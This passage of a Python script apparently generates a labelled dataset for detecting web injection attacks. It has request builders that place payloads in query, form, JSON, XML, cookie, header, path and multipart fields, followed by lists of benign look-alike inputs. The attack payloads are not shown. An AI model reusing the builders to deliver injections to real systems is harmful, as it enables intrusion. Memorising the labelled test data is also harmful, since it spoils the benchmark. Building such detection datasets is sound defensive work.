    parts = [f"{param}={url_enc(value, enc)}", f"page={1 + n % 4}", f"per_page={(20, 50, 100)[n % 3]}"]
    parts = parts[n % 3:] + parts[:n % 3]
    return get_req("/api/users?" + "&".join(parts), browser(n, accept="application/json, text/plain, */*",
                                                            mode="cors"))


def query_name_req(n: int, value: str, enc: str | None) -> dict[str, Any]:
    parts = [f"{url_enc(value, enc)}={('1', 'x', 'true')[n % 3]}", f"page={1 + n % 3}"]
    if n % 2:
        parts.reverse()
    return get_req("/api/users?" + "&".join(parts), browser(n, accept="application/json, text/plain, */*",
                                                            mode="cors"))


def form_fields(n: int, name: str | None, value: str) -> tuple[str, list[tuple[str, str]]]:
    """The route and the fields of a form post, value in the field `name` (or the route's usual field)."""
    kind = FORM_ROUTES[n % len(FORM_ROUTES)]
    csrf = ("csrf_token", token(n, "csrf", 18))
    if kind == "search":
        return "/admin/users/search", [csrf, (name or "q", value), ("status", "active")]
    if kind == "settings":
        field = name or ("display_name", "bio", "location", "website")[n % 4]
        return "/me/settings", [csrf, (field, value), ("timezone", "Europe/Berlin")]
    field = name or ("state", "scope", "redirect_uri")[n % 3]
    fields = [("grant_type", "authorization_code"), ("code", token(n, "code", 16)),
              ("redirect_uri", "https://app.example.com/callback"), ("client_id", "web-app"),
              ("state", token(n, "state", 12))]
    fields = [(k, v) for k, v in fields if k != field] + [(field, value)]
    return "/oauth/token", fields


def encode_form(fields: list[tuple[str, str]], enc: str | None) -> str:
    return "&".join(f"{url_enc(k, enc, plus=True)}={url_enc(v, enc, plus=True)}" for k, v in fields)


def form_req(n: int, value: str, enc: str | None) -> dict[str, Any]:
    uri, fields = form_fields(n, None, value)
    return {"method": "POST", "uri": uri, "body": encode_form(fields, enc),
            "headers": {**browser(n), "Content-Type": "application/x-www-form-urlencoded",
                        "Origin": "https://app.example.com"}}


def form_name_req(n: int, value: str, enc: str | None) -> dict[str, Any]:
    uri, fields = form_fields(n, None, "x")
    fields = [f for f in fields if f[0] in ("csrf_token", "grant_type", "code", "client_id", "timezone", "status")]
    fields.append((value, ("on", "1", "true")[n % 3]))
    return {"method": "POST", "uri": uri, "body": encode_form(fields, enc),
            "headers": {**browser(n), "Content-Type": "application/x-www-form-urlencoded",
                        "Origin": "https://app.example.com"}}


def slack_envelope(n: int, text: Any) -> dict[str, Any]:
    ts = f"1719{n % 1000:03d}{n % 997:03d}.{n:06d}"
    return {"token": "verification-token", "team_id": "T061EG9R6", "api_app_id": "A0PNCHHK2",
            "event": {"type": ("message", "app_mention")[n % 2], "user": f"U0{hexs(n, 'user', 4).upper()}",
                      "text": text, "ts": ts, "channel": "C0123456789", "event_ts": ts},
            "type": "event_callback", "event_id": f"Ev0{hexs(n, 'event', 5).upper()}", "event_time": 1719000000 + n}


def json_req(n: int, value: str, enc: str | None) -> dict[str, Any]:
    field = JSON_FIELDS[n % len(JSON_FIELDS)]
    k = n % 10
    if k in (8, 9) and enc != "num":
        lead = SLACK_LEADS[n % len(SLACK_LEADS)]
        body = json_body(slack_envelope(n, SENTINEL), value, enc, prefix=lead)
        return {"method": "POST", "uri": "/slack/events", "body": body,
                "headers": {"User-Agent": "Slackbot 1.0 (+https://api.slack.com/robots)", "Accept": "*/*",
                            "Accept-Encoding": "gzip,deflate", "Content-Type": "application/json",
                            "X-Slack-Request-Timestamp": str(1719000000 + n),
                            "X-Slack-Signature": "v0=" + hexs(n, "sig")}}
    if enc == "num":
        field = ("age", "quota", "employee_id", "limit")[n % 4]
    if k == 7:
        doc: dict[str, Any] = {field: SENTINEL, "timezone": "Europe/Berlin"}
        method, uri = "PATCH", "/api/users/42"
    else:
        doc = {"name": "Dana Whitfield", "email": "dana.whitfield@example.org", "department": "Finance"}
        doc[field] = SENTINEL
        method, uri = "POST", "/api/users"
    return {"method": method, "uri": uri, "body": json_body(doc, value, enc),
            "headers": {**api_client(n), "Content-Type": "application/json"}}


def json_key_req(n: int, value: str, enc: str | None) -> dict[str, Any]:
    outer = ("filter", "username", "preferences", "meta")[n % 4]
    inner = {value: ("1", True, "", 0)[n % 4]}
    if n % 3 == 2:
        doc: dict[str, Any] = {outer: inner, "timezone": "Europe/Berlin"}
        method, uri = "PATCH", "/api/users/42"
    else:
        doc = {"name": "Dana Whitfield", "email": "dana.whitfield@example.org", outer: inner}
        method, uri = "POST", "/api/users"
    return {"method": method, "uri": uri, "body": json.dumps(doc, ensure_ascii=False),
            "headers": {**api_client(n), "Content-Type": "application/json"}}


def xml_text(value: str, n: int) -> str:
    if n % 3 == 2 and "]]>" not in value and "\r" not in value:
        return f"<![CDATA[{value}]]>"
    return escape(value)


def xml_req(n: int, value: str, enc: str | None) -> dict[str, Any]:
    field = XML_FIELDS[n % len(XML_FIELDS)]
    body = ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<user><name>Dana Whitfield</name>"
            f"<email>dana.whitfield@example.org</email><{field}>{xml_text(value, n)}</{field}></user>")
    if field == "name":
        body = ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<user><email>dana.whitfield@example.org</email>"
                f"<name>{xml_text(value, n)}</name></user>")
    method, uri = ("PUT", "/api/users/42") if n % 4 == 3 else ("POST", "/api/users")
    return {"method": method, "uri": uri, "body": body,
            "headers": {**api_client(n), "Content-Type": ("application/xml", "text/xml")[n % 2]}}


def xml_attr_req(n: int, value: str, enc: str | None) -> dict[str, Any]:
    attr = XML_ATTRS[n % len(XML_ATTRS)]
    body = (f"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<user id=\"42\" {attr}={quoteattr(value)}>"
            "<name>Dana Whitfield</name><email>dana.whitfield@example.org</email></user>")
    return {"method": "POST", "uri": "/api/users", "body": body,
            "headers": {**api_client(n), "Content-Type": "application/xml"}}


def cookie_route(n: int) -> str:
    return ("/api/users?page=1", "/me/settings", "/admin/users", "/api/users/42")[n % 4]


def cookie_req(n: int, value: str, enc: str | None) -> dict[str, Any]:
    name = COOKIE_NAMES[n % len(COOKIE_NAMES)]
    return get_req(cookie_route(n), browser(n, cookie=f"{name}={cookie_enc(value, enc)}"))


def cookie_name_req(n: int, value: str, enc: str | None) -> dict[str, Any]:
    return get_req(cookie_route(n), browser(n, cookie=f"{cookie_enc(value, enc, name=True)}=1"))


def header_req(n: int, header: str, value: str) -> dict[str, Any]:
    uri = ("/api/users?page=1", "/me/settings", "/admin/users", "/api/users/42")[n % 4]
    h = browser(n) if header in ("User-Agent", "Referer") or n % 2 else api_client(n)
    h[header] = value
    return get_req(uri, h)


def upload_header_req(n: int, header: str, value: str) -> dict[str, Any]:
    """A raw upload naming its file in a header (X-Filename, X-File-Name)."""
    h = {**api_client(n), "Content-Type": "application/octet-stream", header: value}
    return {"method": "POST", "uri": ("/me/settings", "/api/users")[n % 2], "body": "GIF89a placeholder image",
            "headers": h}


def path_req(n: int, value: str, enc: str | None) -> dict[str, Any]:
    seg = url_enc(value, enc, safe=PATH_SAFE)
    uri = f"/api/users/{seg}" if n % 3 else f"/api/{seg}"
    return get_req(uri, browser(n, accept="application/json, text/plain, */*", mode="cors"))


def raw_req(n: int, value: str, enc: str | None) -> dict[str, Any]:
    uri = ("/api/users", "/me/settings")[n % 2]
    return {"method": "POST", "uri": uri, "body": value,
            "headers": {**api_client(n), "Content-Type": "text/plain;charset=UTF-8"}}


def multipart(n: int, parts: list[tuple[str, str, str | None, str | None]], route: str) -> dict[str, Any]:
    """parts: (name, value, filename, content type)."""
    boundary = "----WebKitFormBoundary" + token(n, "boundary", 12)[:16]
    lines = []
    for name, value, filename, ctype in parts:
        lines.append(f"--{boundary}")
        disp = f"Content-Disposition: form-data; name=\"{part_name(name)}\""
        if filename is not None:
            disp += f"; filename=\"{part_name(filename)}\""
        lines.append(disp)
        if ctype:
            lines.append(f"Content-Type: {ctype}")
        lines.append("")
        lines.append(value)
    lines.append(f"--{boundary}--")
    lines.append("")
    return {"method": "POST", "uri": route, "body": "\r\n".join(lines),
            "headers": {**browser(n), "Content-Type": f"multipart/form-data; boundary={boundary}",
                        "Origin": "https://app.example.com"}}


def multipart_req(n: int, place: str, value: str, upload_name: str = "avatar.png") -> dict[str, Any]:
    settings = n % 2 == 0
    route = "/me/settings" if settings else "/api/users"
    base: list[tuple[str, str, str | None, str | None]] = (
        [("csrf_token", token(n, "csrf", 18), None, None), ("timezone", "Europe/Berlin", None, None)]
        if settings else [("name", "Dana Whitfield", None, None), ("email", "dana.whitfield@example.org", None, None)])
    text_field = ("display_name", "bio", "website")[n % 3] if settings else ("title", "notes", "department")[n % 3]
    file_field = "avatar" if settings else "attachment"
    if place == "multipart-field":
        parts = base + [(text_field, value, None, None), (file_field, "GIF89a", upload_name, "image/gif")]
    elif place == "multipart-name":
        parts = base + [(value, "1", None, None)]
    elif place == "multipart-filename":
        parts = base + [(file_field, "GIF89a placeholder image", value, "application/octet-stream")]
    else:  # multipart-file: a text file's content
        parts = base + [(file_field, value, ("notes.txt", "import.csv", "readme.md")[n % 3], "text/plain")]
    return multipart(n, parts, route)


# the variables a builder of its own carries a value in (headers and multipart parts: see build)
BUILDERS: dict[str, Callable[[int, str, str | None], dict[str, Any]]] = {
    "query": query_req, "query-name": query_name_req, "form": form_req, "form-name": form_name_req,
    "json": json_req, "json-key": json_key_req, "xml": xml_req, "xml-attr": xml_attr_req, "cookie": cookie_req,
    "cookie-name": cookie_name_req, "path": path_req, "raw-body": raw_req,
}


def build(place: str, value: str, n: int, enc: str | None = None) -> dict[str, Any]:
    """A request that carries value in the variable `place`."""
    if place in BUILDERS:
        return BUILDERS[place](n, value, enc)
    if place in ("header:X-Filename", "header:X-File-Name"):
        return upload_header_req(n, place.split(":", 1)[1], value)
    if place.startswith("header:"):
        return header_req(n, place.split(":", 1)[1], value)
    if place.startswith("multipart-"):
        return multipart_req(n, place, value)
    raise ValueError(place)


def fits(place: str, value: str) -> bool:
    """Whether a value can travel in a variable as a client sends it (header values: printable ASCII, no line
    breaks; a path segment: no dot-dot that the server would resolve away)."""
    if place.startswith("header:"):
        return all(ch == "\t" or 0x20 <= ord(ch) <= 0x7e for ch in value) and len(value) < 2000
    if place == "path":
        return ".." not in value
    return True


def placements(family: str, k: int, entries: list[Entry]) -> list[tuple[str, str, str | None]]:
    """Each entry's (placement, payload, enc): a given placement, or the family's core variables first and then
    its rarer ones rotating with the title's index k (skipping a variable the payload cannot travel in)."""
    core, extra = CORE[family], EXTRA[family]
    out = []
    auto = 0
    for e in entries:
        if isinstance(e, str):
            payload, place, enc = e, "", None
        elif len(e) == 2:
            place, payload, enc = e[0], e[1], None
        else:
            place, payload, enc = e[0], e[1], e[2]
        if not place:
            seq = core + [extra[(j + 3 * k) % len(extra)] for j in range(len(extra))]
            i = auto
            while not fits(seq[i % len(seq)], payload):
                i += 1
            place = seq[i % len(seq)]
            auto += 1
        out.append((place, payload, enc))
    return out


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for category, titles in FAMILIES:
        for k, (sub, entries) in enumerate(titles):
            for place, payload, enc in placements(category, k, entries):
                n += 1
                rec = build(place, payload, n, enc)
                yield {**rec, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                       "placement": place, "payload": payload}


# ---------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently into the same variables
# ---------------------------------------------------------------------------------------------------------------
CHAT = [
    "can someone review my PR? it adds a LEFT JOIN on orders and a GROUP BY customer_id",
    "the report query does select count(*) from events where day = today, takes 4s, needs an index",
    "we should escape <script> tags in the bio field before rendering, not after",
    "php 8.3 deprecates dynamic properties, our legacy models will need #[AllowDynamicProperties]",
    "drop the old staging tables tomorrow morning, backups are done",
    "union meeting moved to Thursday 3pm",
    "who owns the sleep tracker integration? benchmark numbers look odd",
    "the onload handler in the dashboard fires twice, see the devtools trace",
    "alert fatigue is real, I muted the disk space alerts for the build runners",
    "anyone know if information_schema queries are slow on Aurora?",
    "I renamed the column from user_name to username, migration is in the PR",
    "the javascript bundle is 2.1 MB, let's split the charts into a lazy chunk",
    "please don't paste passwords in here, use the vault",
    "SELECT statements in the analytics service are read-only, writes go through the API",
    "is it OK to use eval in the config loader? no, let's parse JSON instead",
    "the iframe embed for the status page needs a sandbox attribute",
    "our PHP monolith still uses $_SESSION for the cart, the new one uses redis",
    "merge window opens at 10, execute the release checklist immediately after",
    "I'm out of office next week, Dana covers the on-call rotation",
    "the CSV import chokes on names like O'Brien and D'Angelo, fix incoming",
    "the order by clause sorts by created_at desc, then id",
    "sql injection training is mandatory this quarter, link in the wiki",
    "the img tag with onerror fallback is how the avatar placeholder works, it's in the design system",
    "1=1 in the where clause is a leftover from the query builder, harmless but ugly",
    "we pinned jquery to 3.7, the document.ready calls still work",
    "the phpinfo page is disabled in production, good",
    "use prepared statements, never string concatenation for queries",
    "who has access to the mysql.user table on the legacy box? audit asks",
    "waitfor delay in the old stored procedure was a hack for a race, removing it",
    "pg_sleep shows up in the slow log, that's the health check doing select pg_sleep(0)",
    "the serialize() format changed between versions, unserialize old cookies carefully",
    "window.location redirects after login are handled by the router now",
    "the style attribute on that span overrides the theme, move it to CSS",
    "angular templates use {{ user.name }} and that's escaped by default",
    "system() calls in the deploy script were replaced by the SDK",
    "shell_exec is disabled in php.ini on the shared hosts",
    "the hex value 0x1F is the unit separator in that file format",
    "case when the invoice is overdue then send the reminder, else skip",
    "the mongo query uses $in with the list of team ids",
    "filters like price[$gte]=10 come from the storefront SDK",
    "benchmark: 1.2 million rows per second on the new instance",
    "the exec summary for the board is in the shared drive",
    "phar archives are how we ship the CLI tool",
    "php://stdin is what the cron wrapper reads, nothing fancy",
    "data: URLs for the small icons are inlined at build time",
    "the meta charset tag must be in the first 1024 bytes",
    "base href matters for the SPA's relative links",
    "the object tag for the PDF preview falls back to a download link",
    "the embed code from the video provider uses an iframe",
    "applet? we haven't shipped a Java applet since 2012",
    "who wrote the vbscript macro in the finance spreadsheet?",
    "javascript: links are blocked by our CSP, use buttons",
    "the import of the 2023 data finished overnight",
    "the link to the style guide is pinned in the channel",
    "on call: Tom until Friday, then Ana",
    "insert the new row above the totals in the sheet",
    "update: the vendor fixed the bug, deploying at 4",
    "delete the duplicate Jira tickets please",
    "alter the schedule so QA gets two more days",
    "create table statements are generated by the ORM",
    "ping me if the select dropdown still looks broken on Safari",
    "shutdown of the old datacenter is scheduled for March",
    "declare the variables at the top of the function, linter complains otherwise",
    "procedure for expense reports: submit, approve, reimburse",
    "the load_file issue was a permissions problem on the NFS mount",
    "into outfile is disabled by secure_file_priv on all DB servers",
    "xp_cmdshell is off on every SQL Server, confirmed by the audit",
    "sp_executesql with parameters is fine, dynamic strings are not",
    "the dbms_scheduler job runs at 2am",
    "utl_http calls from the database are blocked by the firewall",
    "the angularjs app is being migrated to react this year",
    "the jsfuck talk at the meetup was hilarious",
    "the ie11 support policy ended last year, finally",
    "+1 to the utf-7 removal, nobody needs it",
    "I love the new <details> element for the FAQ",
    "the <meta http-equiv=refresh> on the old landing page should go",
    "tabs vs spaces again? the formatter decides",
    "dear team, the offsite is at the Union Hotel, 5th floor",
    "the Select Committee hearing is streamed at noon",
    "drop-off for the charity drive is at reception",
    "script for the product video is ready for review",
    "the sleep study results came back, all normal",
    "order #4412 shipped today",
    "the new alert sound is less annoying",
    "Tom & Jerry marathon on Friday in the break room",
    "C# and F# devs: the .NET 8 upgrade guide is in the wiki",
    "50% off the conference tickets until Sunday",
    "rock 'n' roll band for the party is booked",
    "AT&T outage affected the Denver office this morning",
    "the Q&A after the all-hands ran long",
    "version 2.0.1 -- release notes attached",
    "the -- in the CLI separates flags from arguments",
    "use # for comments in the YAML config, not //",
    "/* legacy */ blocks in the CSS can be deleted",
    "the backtick in markdown makes inline code, like `npm ci`",
    "price went from $10 to $12 (20% increase)",
    "email me at ops@example.com or call +1 (555) 010-4477",
    "the spreadsheet formula =IF(A2>100, \"high\", \"low\") is wrong for negatives",
    "match against the full-text index is faster than LIKE for that search",
    "execute immediate is only in the Oracle migration scripts",
    "the magic number 2147483647 is the max int in the old schema",
    "the 1e309 overflow test in the parser suite returns Infinity",
    "json_extract on the settings column works on MySQL 8",
    "the scientific notation 1.5e3 in the CSV was parsed as 1500",
    "admin panel login is via SSO only",
    "anyone seen the `{{ }}` placeholders leaking into emails? template bug",
    "the document.cookie access in the analytics snippet is flagged by the audit",
    "String.fromCharCode is used by the barcode generator",
    "setTimeout(() => refresh(), 5000) in the dashboard is fine",
    "eval() is banned by our ESLint config",
]

SEARCHES = [
    "O'Brien", "D'Angelo", "O'Neil, Siobhán", "Union Station", "select committee", "drop-off times",
    "sleep study", "benchmark results 2024", "order by date", "script writing class", "alert settings",
    "on-call schedule", "php developer", "javascript course", "Tom & Jerry", "C# / .NET", "50% off", "rock 'n' roll",
    "AT&T", "Q&A", "Smith-Jones", "Anne-Marie", "José García", "Zoë Müller", "van der Berg", "McDonald's",
    "L'Oréal", "Ben & Jerry's", "3 < 5", "x >= 10", "sales (EMEA)", "team: platform", "\"exact phrase\"",
    "delete account", "update email", "insert page break", "create table of contents", "drop shadow css",
    "union square", "Information Services", "master data", "sleepy hollow", "waitfor", "shutdown procedure",
    "exec assistant", "system administrator", "eval form", "include dependents", "declare dependents",
    "having trouble logging in", "case study", "like button", "between jobs", "or else", "and then",
    "order #4412", "ticket #123 -- urgent", "version 1.2.3", "what's new?", "who's on call?", "isn't it",
    "Crème brûlée", "naïve café", "北京", "Москва", "São Paulo", "Kraków", "1/2 day", "9-5", "24/7 support",
    "$100 budget", "100%", "@dana", "#general", "me+filter@example.com", "https://example.com/page", "C:\\Users",
    "[draft] proposal", "{placeholder}", "a|b", "~/projects", "don't", "can't log in", "O'Reilly books",
    "javascript: the good parts", "php 8 migration", "SQL for beginners", "alert(): history", "onload events",
    "document management", "window cleaning", "top 10", "self assessment", "parent portal", "frames per second",
    "style guide", "href tag", "src folder", "data science", "import tax", "link building", "base salary",
    "meta description", "object storage", "embed video", "applet", "iframe", "body lotion", "marquee event",
]

PROFILE_VALUES = [
    "Siobhán O'Neil", "Dana Whitfield", "D'Arcy McAllister", "Jean-Luc Dubois", "Zoë Zhang-Müller",
    "Head of Data & Analytics", "VP, Sales (EMEA)", "Senior PHP Developer", "SQL Server DBA", "Front-end engineer",
    "Union organizer and part-time drummer", "I select the music for the office playlist",
    "Loves sleep, coffee and benchmarks", "Script writer; amateur actor", "I order too much takeout",
    "Drop me a line anytime", "Based in Union City, NJ", "10 Downing St, London SW1A 2AA",
    "Apt. #4, 221B Baker Street", "1600 Amphitheatre Pkwy, Mountain View, CA", "Rua Augusta, 1 - São Paulo",
    "I write about <b>web security</b> and accessibility", "Building tools for developers -- mostly PHP & Go",
    "Formerly at AT&T; now at a startup", "Fan of rock 'n' roll and 80's synth", "Mother of two, runner",
    "On call every other week", "Alerts are my life", "javascript, typescript, css", "mysql, postgres, sqlite",
    "Certified in SQL Server 2019 administration", "PHP 8, Laravel, Symfony", "Angular & React",
    "https://github.com/danawhitfield", "https://example.com/~dana/blog?tag=sql&page=2",
    "Ask me about the select committee", "Working hours 9-5 (CET)", "100% remote", "Price-sensitive buyer :)",
    "<3 open source", "\"Make it work, make it right, make it fast\"", "x = y + 1; // the best code",
    "SELECT * FROM hobbies; -- reading, hiking", "My motto: eval everything, trust nothing",
    "Exec chef turned engineer", "system thinker", "Proud member of the O'Reilly book club",
    "Stack: nginx, lua, redis", "Between jobs and loving it", "Case manager at the county",
    "Admin assistant", "Information security analyst", "The order of the phoenix fan",
    "Tabs > spaces", "I <3 SQL", "Alert: coffee needed", "Scripted the office karaoke night",
    "Union Pacific railroad enthusiast", "Sleep researcher at the university",
]

PATHS = [
    "42", "1001", "dana.whitfield", "o'brien", "José", "anne-marie", "me", "42/avatar", "42/teams",
    "ZoëMüller", "smith-jones", "van%20der%20berg", "union-station", "select", "drop-off", "sleep",
    "42/settings", "export.csv", "a1b2c3d4-e5f6-4789-abcd-ef0123456789", "team:platform", "sales(emea)",
    "user@example.com", "script", "alert", "order", "2147483", "page;v=2", "~dana", "42,43,44",
    "search", "info", "admin", "system", "exec", "delete", "update", "include", "data", "style",
    "body", "base", "link", "object", "embed", "frame", "window", "self", "top", "parent",
]

UA_VALUES = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Mobile Safari/537.36",
    "Mozilla/5.0 (iPad; CPU OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Mobile/15E148 Safari/604.1",
    "curl/8.8.0", "Wget/1.24.5", "python-httpx/0.27.0", "Java/21.0.3", "node-fetch/1.0 (+https://github.com/bitinn/"
    "node-fetch)", "Apache-HttpClient/5.3.1 (Java/17.0.11)", "Dalvik/2.1.0 (Linux; U; Android 13; SM-S911B Build/TP1A)",
    "MyCompanyApp/4.12.0 (iPhone; iOS 17.5; Scale/3.00)", "Slackbot 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "PHP/8.3.8", "GuzzleHttp/7", "Symfony HttpClient (Curl)", "WordPress/6.5.4; https://blog.example.com",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17726; Pro)", "Zoom/6.0.12 (macOS)",
    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "okhttp/4.12.0", "Go-http-client/1.1", "Ruby", "axios/1.7.2", "Deno/1.44.4", "Bun/1.1.17",
    "aws-sdk-js/3.600.0 ua/2.0 os/linux lang/js md/nodejs#20.14.0", "Terraform/1.9.0", "k6/0.52.0 (https://k6.io/)",
]

REFERERS = [
    "https://app.example.com/admin/users?q=o%27brien&page=2",
    "https://app.example.com/admin/users/search?q=union+station",
    "https://www.google.com/", "https://www.bing.com/search?q=select+committee+hearing",
    "https://duckduckgo.com/?q=php+developer+jobs&ia=web", "https://app.example.com/me/settings#profile",
    "https://app.example.com/reports?from=2024-01-01&to=2024-06-30&order=desc",
    "https://mail.example.com/inbox/thread/18f2a", "https://github.com/acme/api/pull/4412",
    "https://stackoverflow.com/questions/60174/how-can-i-prevent-sql-injection-in-php",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/script",
    "https://owasp.org/www-community/attacks/xss/", "https://www.php.net/manual/en/function.eval.php",
    "https://app.example.com/users/42?tab=activity&filter=alerts",
    "https://t.co/a1B2c3D4e5", "https://news.ycombinator.com/item?id=40000000",
    "https://app.example.com/search?q=Tom+%26+Jerry", "https://app.example.com/search?q=50%25+off",
    "https://docs.example.com/api/v2/users#select-fields", "https://app.example.com/dashboard?widgets=sleep,benchmark",
]

COOKIE_VALUES = [
    "dark", "Europe%2FBerlin", "en-GB", "%7B%22theme%22%3A%22dark%22%2C%22density%22%3A%22compact%22%7D",
    "o%27brien", "union%20station", "42|43|44", "GA1.2.1234567890.1719000000", "1719000000",
    "sidebar=collapsed&grid=on", "select%20committee", "sleep%20study", "order%20by%20date",
    "Tom%20%26%20Jerry", "AT%26T", "true", "v2", "a1b2c3d4", "script-writing", "alert-settings",
    "base64:eyJhIjoxfQ", "drop-off", "100%25", "C%23", "info", "Information%20Services", "exec", "q%3Dphp",
    "%5B1%2C2%2C3%5D", "onboarding-step-3", "ZoeMuller", "top-10", "self", "window-seat", "data", "2024-06-21",
    "Jos%C3%A9", "na%C3%AFve", "%E5%8C%97%E4%BA%AC", "-1",
]
COOKIE_NAME_VALUES = [
    "_ga", "_gid", "__Host-csrf", "__Secure-next-auth.session-token", "AMCV_1234%40AdobeOrg", "ajs_user_id",
    "intercom-id-abc123", "_fbp", "hubspotutk", "optimizelyEndUserId", "XSRF-TOKEN", "JSESSIONID",
    "PHPSESSID", "laravel_session", "wp-settings-1", "OptanonConsent", "sidebar_state", "select_tab",
    "order_pref", "script_consent",
]
QUERY_NAME_VALUES = [
    "filter[status]", "sort[created_at]", "fields[users]", "page[size]", "include", "utm_source", "ids[]",
    "filter[name][like]", "price[gte]", "created_at[lt]", "q[order]", "select", "order_by", "union_id",
    "script_id", "alert_type", "on_call", "data[attributes][title]", "$top", "$filter", "$select", "$orderby",
    "$skip", "@timestamp", "user.name", "x-foo", "embed", "expand[]", "fields[]", "callback",
]
JSON_KEY_VALUES = [
    "$schema", "$id", "$ref", "@type", "@context", "select_all", "order_by", "script_version", "on_call",
    "is_admin", "union_member", "drop_shipping", "sleep_hours", "alert_threshold", "exec_summary",
    "system_prompt", "eval_score", "data:image", "href", "src", "style", "onboarding", "onerror_count",
    "window_size", "document_id", "top_level", "self_link", "_links", "__typename", "x-request-id",
    "delete_after", "insert_position", "updated_at", "include_archived", "case_number", "like_count",
    "between_dates", "having_pets", "char_limit", "hex_color",
]
FILENAMES = [
    "CV - O'Brien (2024).pdf", "invoice#42.pdf", "script.txt", "union-station.jpg", "select_menu.png",
    "php-notes.md", "report_final_v2 (1).docx", "Zoë's photo.jpeg", "data & analytics.xlsx", "sleep-log.csv",
    "benchmark_results.json", "avatar.png", "IMG_20240621_101500.HEIC", "Screenshot 2024-06-21 at 10.15.00.png",
    "budget 50% cut.xlsx", "alert-rules.yaml", "drop-off-map.pdf", "meeting notes; Q2.txt", "résumé.pdf",
    "index.html", "style.css", "app.js", "query.sql", "backup.tar.gz", "team [draft].pptx", "a+b=c.txt",
    "phpinfo-screenshot.png", "sql-cheatsheet.pdf", "xss-training-slides.pdf", "notes.php.txt",
]
FILE_CONTENTS = [
    "Meeting notes\n- select a venue for the offsite\n- drop the old agenda\n- union rep joins at 3pm\n",
    "name,email,department\nDana Whitfield,dana@example.org,Finance\nSiobhán O'Neil,siobhan@example.org,Sales\n",
    "TODO: update the README, delete unused scripts, insert the new logo\n",
    "Dear team,\nplease find the Q2 benchmark results attached. Sleep well!\n",
    "# Setup\nRun `composer install`, then `php artisan migrate`.\n",
    "SELECT in the report is read-only; the ETL does the INSERTs at night.\n",
    "id,title\n1,\"Tom & Jerry\"\n2,\"O'Brien's pub\"\n3,\"50% off\"\n",
    "The <b> tag makes text bold; the <i> tag makes it italic.\n",
    "Recipe: 2 cups flour, 1 cup sugar, mix, bake 30 min at 180C.\n",
    "line one\nline two -- with a dash\nline three # with a hash\n",
    "Order #4412: 3 x widgets @ $4.99\nOrder #4413: 1 x gadget @ $19.99\n",
    "The script for the product video:\nScene 1: alert the hero.\nScene 2: the union of friends.\n",
    "key=value\ncolor=blue\nsize=10\n",
    "{\"theme\": \"dark\", \"alerts\": true, \"sleep_mode\": \"22:00-07:00\"}\n",
    "Chapter 1\nIt was a dark and stormy night; the system was down.\n",
    "phone: +1 (555) 010-4477\naddress: 10 Union St, Apt #4\n",
    "1. Open the settings\n2. Select 'Notifications'\n3. Drop the ones you don't need\n",
    "Quarterly OKRs\n- exec summary by Friday\n- case studies x3\n",
    "Minutes: the committee agreed to update the bylaws and delete article 7.\n",
    "ASCII art:  (\\_/)  (='.'=)  (\")_(\")\n",
]
RAW_TEXTS = [
    "Please update my email to dana.whitfield@example.org, thanks!",
    "Feedback: the select box on the settings page is hard to use on mobile.",
    "I'd like to delete my account and drop all my data, per GDPR.",
    "Bug report: the alert banner overlaps the menu on Safari 17.",
    "Note to self: benchmark the new instance before the union meeting.",
    "The order of the columns in the export should be name, email, department.",
    "Hi, I'm Siobhán O'Neil from the Sales team (EMEA).",
    "Re: script for the onboarding video -- looks good, minor edits attached.",
    "Price update: $10 -> $12 (20% increase) from July 1st.",
    "Can you include the 2023 data in the report? And exclude test accounts.",
    "Sleep mode starts at 22:00; alerts are muted until 07:00.",
    "Tom & Jerry's Pizza, 10 Union St -- delivery between 6 and 7 pm.",
    "We should escape <, > and & in user bios.",
    "The case for PHP 8: faster, typed, and still everywhere.",
    "Shutdown notice: the legacy server goes offline on March 1.",
    "Exec summary: revenue up 12%, churn down 3%.",
    "Line 1\nLine 2\nLine 3",
    "plain text body with a # hash and -- dashes",
    "Ticket #123: login fails for users with an apostrophe in their name",
    "Thanks for the quick fix! Everything works now :)",
]
OAUTH_STATES = [
    "af0ifjsldkj", "xyz-123", "eyJyZXR1cm5UbyI6Ii9kYXNoYm9hcmQifQ", "state_2024-06-21", "c2VsZWN0",
    "n-0S6_WzA2Mj", "opaque.value.42", "L7rk0aZ9Y", "r%3D%2Fme%2Fsettings", "Zm9vYmFyYmF6",
]
OAUTH_SCOPES = ["openid profile email", "read:users write:users", "offline_access", "openid", "admin:read"]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(CHAT, NAME)

    def rec(kind: str, placement: str, req: dict[str, Any]) -> dict[str, Any]:
        nonlocal n
        n += 1
        return {**req, "id": f"{NAME}-{kind}-{n:04d}", "category": "benign", "placement": placement}

    for i, text in enumerate(SEARCHES):
        yield rec("search", "query", query_req(n + i, text, None))
        uri, fields = "/admin/users/search", [("csrf_token", token(n, "csrf", 18)), ("q", text),
                                              ("status", "active")]
        yield rec("form", "form", {"method": "POST", "uri": uri, "body": encode_form(fields, None),
                                   "headers": {**browser(n), "Content-Type": "application/x-www-form-urlencoded",
                                               "Origin": "https://app.example.com"}})
    profile_places = ["json", "xml", "multipart-field", "form", "xml-attr", "json", "raw-body"]
    for i, value in enumerate(PROFILE_VALUES):
        for j in range(3):
            place = profile_places[(i + 2 * j) % len(profile_places)]
            if place == "form":
                fields = [("csrf_token", token(n, "csrf", 18)), (("display_name", "bio", "location")[i % 3], value),
                          ("timezone", "Europe/Berlin")]
